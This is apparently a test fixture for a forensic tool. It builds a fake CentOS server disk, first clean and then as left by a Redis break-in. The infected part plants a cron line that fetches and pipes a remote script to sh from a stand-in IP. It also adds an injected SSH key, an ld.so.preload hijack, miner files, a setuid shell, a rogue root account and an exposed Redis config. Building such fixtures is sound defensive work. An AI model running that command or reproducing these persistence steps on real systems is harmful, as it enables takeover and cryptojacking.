"""The disk of a server that was broken into through its Redis: a CentOS-like tree with an application. Inert text only."""

from __future__ import annotations

import datetime
import io
import os
import shutil
import struct
import subprocess
import zipfile
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from tests.rescue.disks import unpack

DATA = Path(__file__).parent / "data"
SECRET = "0123"
REDIS_SECRET = "s3cret"
CRON = "*/2 * * * * curl -fsSL http://192.0.2.66/init.sh | sh"


def put(root: Path, path: str, text: str | bytes, mode: int = 0o644) -> Path:
    file = root / path.lstrip("/")
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(text if isinstance(text, bytes) else text.encode())
    file.chmod(mode)
    return file


def clean(root: Path) -> Path:
    """A CentOS 7 as it comes, with an application, its database and its Redis."""
    for directory in (
        "usr/bin",
        "usr/lib64",
        "var/log",
        "tmp",
        "root/.ssh",
        "home/app",
        "boot",
        "dev",
        "proc",
    ):
        (root / directory).mkdir(parents=True, exist_ok=True)
    for link, target in (("bin", "usr/bin"), ("lib64", "usr/lib64")):
        (root / link).symlink_to(target)
    _system(root)
    _site(root)
    _application(root)
    _redis(root)
    unpack(DATA / "mysql-5.5-heads.tgz", root / "var/lib/mysql-heads")
    shutil.move(root / "var/lib/mysql-heads/clean", root / "var/lib/mysql")
    shutil.rmtree(root / "var/lib/mysql-heads")
    put(
        root,
        "/etc/my.cnf",
        "[mysqld]\ndatadir=/var/lib/mysql\nsymbolic-links=0\n",
    )
    return root


def _system(root: Path) -> None:
    put(
        root,
        "/etc/os-release",
        'NAME="CentOS Linux"\nVERSION_ID="7"\nID="centos"\nPRETTY_NAME="CentOS Linux 7 (Core)"\n',
    )
    put(root, "/etc/centos-release", "CentOS Linux release 7.9.2009 (Core)\n")
    put(root, "/etc/hostname", "shop-1\n")
    put(
        root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\nsync:x:5:0:sync:/sbin:/bin/sync\n"
        "app:x:1000:1000::/home/app:/bin/bash\nmysql:x:27:27::/var/lib/mysql:/sbin/nologin\n",
    )
    put(
        root,
        "/etc/shadow",
        "root:$6$salt$hash:19000:0:99999:7:::\nbin:*:18000::::::\napp:!!:19000::::::\n",
        0o600,
    )
    key = "A" * 60
    put(root, "/root/.ssh/authorized_keys", f"ssh-rsa {key} admin@office\n", 0o600)
    put(root, "/etc/crontab", "SHELL=/bin/bash\nPATH=/sbin:/bin\n# m h dom mon dow user command\n")
    put(root, "/etc/cron.d/0hourly", "SHELL=/bin/bash\n01 * * * * root run-parts /etc/cron.hourly\n")
    put(
        root,
        "/etc/cron.daily/logrotate",
        "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n",
        0o755,
    )
    put(root, "/usr/lib/systemd/system/nginx.service", "[Service]\nExecStart=/usr/sbin/nginx\n")
    put(
        root,
        "/etc/systemd/system/shop.service",
        "[Service]\nUser=app\nExecStart=/usr/bin/java -jar /home/app/shop.jar\n",
    )
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True)
    (wants / "nginx.service").symlink_to("/usr/lib/systemd/system/nginx.service")
    (wants / "shop.service").symlink_to("/etc/systemd/system/shop.service")
    put(root, "/etc/rsyslog.conf", "*.* /var/log/messages\n")
    put(root, "/var/log/wtmp", b"x" * 384)
    put(root, "/var/log/secure", "Jan 1 sshd: Accepted\n")
    put(root, "/usr/bin/sudo", b"\x7fELF sudo", 0o4755)
    put(root, "/usr/bin/bash", b"\x7fELF bash", 0o755)


def _site(root: Path) -> None:
    put(
        root,
        "/etc/nginx/nginx.conf",
        "user nginx;\nevents { worker_connections 1024; }\nhttp {\n  include /etc/nginx/mime.types;\n"
        "  upstream shop { server 127.0.0.1:8080; server 127.0.0.1:8081; }\n  include /etc/nginx/conf.d/*.conf;\n}\n",
    )
    put(root, "/etc/nginx/mime.types", "types { text/html html; }\n")
    put(
        root,
        "/etc/nginx/conf.d/shop.conf",
        "server {\n  listen 443 ssl;\n  server_name shop.example www.shop.example;\n"
        "  ssl_certificate /etc/nginx/ssl/shop.pem;\n  ssl_certificate_key /etc/nginx/ssl/shop.key;\n"
        "  root /usr/share/nginx/html;\n  location /api/ { proxy_pass http://shop; }\n"
        "  location /upload/ { alias /data/upload/; }\n  include snippets/extra.conf;\n}\n",
    )
    put(root, "/etc/nginx/snippets/extra.conf", "location /admin/ { proxy_pass http://127.0.0.1:9090/; }\n")
    put(root, "/usr/share/nginx/html/index.html", "<h1>shop</h1>\n")
    for i in range(3):
        put(root, f"/data/upload/2024/{i}.jpg", b"\xff\xd8\xff picture %d" % i)
    certificate, key = _certificate()
    put(root, "/etc/nginx/ssl/shop.pem", certificate)
    put(root, "/etc/nginx/ssl/shop.key", key, 0o600)


def _certificate() -> tuple[bytes, bytes]:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "shop.example")])
    begin = datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(7)
        .not_valid_before(begin)
        .not_valid_after(begin + datetime.timedelta(days=365))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("shop.example")]), critical=False)
        .sign(key, hashes.SHA256())
    )
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    return made.public_bytes(serialization.Encoding.PEM), private


def _application(root: Path) -> None:
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w") as archive:
        archive.writestr(
            "application-common.properties", "jdbc.url=jdbc:mysql://127.0.0.1/shop?password=hunter2&x=1\n"
        )
    jar = io.BytesIO()
    with zipfile.ZipFile(jar, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nStart-Class: example.Shop\r\n")
        archive.writestr(
            "BOOT-INF/classes/application.yml",
            "spring:\n  profiles:\n    active: @profileActive@\n  redis:\n    host: 127.0.0.1\n    port: 6379\n"
            f"    password: {SECRET}\n  datasource:\n    url: jdbc:mysql://127.0.0.1:3306/shop\n    username: shop\n"
            "    password: ${DB_PASSWORD}\nserver:\n  port: 8080\n",
        )
        archive.writestr(
            "BOOT-INF/classes/application-prod.yml", "spring:\n  redis:\n    password: longer-secret\n"
        )
        archive.writestr("BOOT-INF/lib/shop-common-1.0.jar", nested.getvalue())
        archive.writestr("BOOT-INF/lib/spring-core-5.jar", b"no archive at all")
    put(root, "/home/app/shop.jar", jar.getvalue())
    put(
        root,
        "/srv/php/.env",
        "APP_NAME=blog\nDB_HOST=127.0.0.1\nDB_PASSWORD='p w'\nREDIS_URL=redis://:topsecret@127.0.0.1:6379/0\n",
    )
    put(
        root,
        "/srv/php/config/database.php",
        "<?php return ['password' => 'phpsecret', 'host' => 'localhost'];\n",
    )


def _redis(root: Path) -> None:
    put(
        root,
        "/etc/redis.conf",
        f"bind 127.0.0.1\nport 6379\nrequirepass {REDIS_SECRET}-that-is-long\ndir /var/lib/redis\ndbfilename dump.rdb\n"
        "appendonly yes\n",
    )
    put(root, "/var/lib/redis/dump.rdb", rdb({b"user:%d" % i: b"value" for i in range(20)}))
    words = b"".join(command(b"SET", b"k%d" % i, b"v") for i in range(100))
    put(root, "/var/lib/redis/appendonly.aof", command(b"SELECT", b"0") + words)


def infected(root: Path) -> Path:
    """What published droppers leave behind, as text that does nothing."""
    put(root, "/etc/ld.so.preload", "/etc/libsystem.so\n")
    put(root, "/etc/libsystem.so", "not a library\n")
    put(root, "/var/spool/cron/root", rdb({b"backup1": f"\n\n\n{CRON}\n\n".encode()}))
    put(root, "/etc/cron.d/zzh", f"{CRON.replace('curl', 'root curl', 1)}\n")
    put(root, "/root/.ssh/authorized_keys", rdb({b"crackit": b"\n\nssh-rsa " + b"B" * 60 + b" mdrfckr\n\n"}))
    put(root, "/tmp/kdevtmpfsi", b"\x7fELF nothing", 0o755)
    put(root, "/usr/local/bin/xmrig", "nothing\n", 0o755)
    put(root, "/var/tmp/.x/bash", "nothing\n").chmod(0o4755)
    put(root, "/usr/bin/bash", b"\x7fELF bash").chmod(0o4755)
    with (root / "etc/passwd").open("a") as file:
        file.write("system:x:0:0::/root:/bin/bash\n")
    put(root, "/etc/systemd/system/bot.service", "[Service]\nExecStart=/tmp/kdevtmpfsi\n")
    (root / "root/.bash_history").symlink_to("/dev/null")
    put(
        root,
        "/etc/redis.conf",
        "bind 0.0.0.0\nport 6379\nprotected-mode no\ndir /var/lib/redis\ndbfilename dump.rdb\nappendonly yes\n",
    )
    with (root / "var/lib/redis/appendonly.aof").open("ab") as file:
        file.write(command(b"FLUSHALL") + command(b"SET", b"backup1", f"\n{CRON}\n".encode()))
    return root


def rdb(values: dict[bytes, bytes]) -> bytes:
    """An RDB file of version 9 with strings in database 0, its checksum switched off."""
    body = b"".join(b"\0" + _string(k) + _string(v) for k, v in values.items())
    aux = b"\xfa" + _string(b"redis-ver") + _string(b"5.0.7")
    return b"REDIS0009" + aux + b"\xfe\0\xfb" + bytes((len(values), 0)) + body + b"\xff" + bytes(8)


def rdb_of(values: dict[bytes, bytes]) -> bytes:
    """As ``rdb``, with any number of values of any size."""
    body = b"".join(b"\0" + _string(k) + _string(v) for k, v in values.items())
    return b"REDIS0009\xfe\0" + body + b"\xff" + bytes(8)


def _string(value: bytes) -> bytes:
    size = len(value)
    if size >= 1 << 14:
        return b"\x80" + struct.pack(">I", size) + value
    return (bytes((size,)) if size < 64 else struct.pack(">H", 0x4000 | size)) + value


def command(*words: bytes) -> bytes:
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in words)


def rpm_header(name: str, version: str, release: str) -> bytes:
    """The part of a package's header that names it, padded to what real ones weigh."""
    values = [(1000, name), (1001, version), (1002, release), (1005, "x" * 3000)]
    data, entries = b"", b""
    for tag, text in values:
        entries += struct.pack(">IIII", tag, 6, len(data), 1)
        data += text.encode() + b"\0"
    return struct.pack(">II", len(values), len(data)) + entries + data


def berkeley(path: Path, headers: list[bytes]) -> None:
    """A database of rpm 4.11, as CentOS 7 has it; made by Berkeley DB's own tool."""
    lines = ["VERSION=3", "format=bytevalue", "type=hash", "HEADER=END"]
    for number, header in enumerate(headers, 1):
        lines += [f" {struct.pack('<I', number).hex()}", f" {header.hex()}"]
    text = "\n".join([*lines, "DATA=END"]) + "\n"
    path.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run(["db5.3_load", os.fspath(path)], input=text, text=True, check=True)
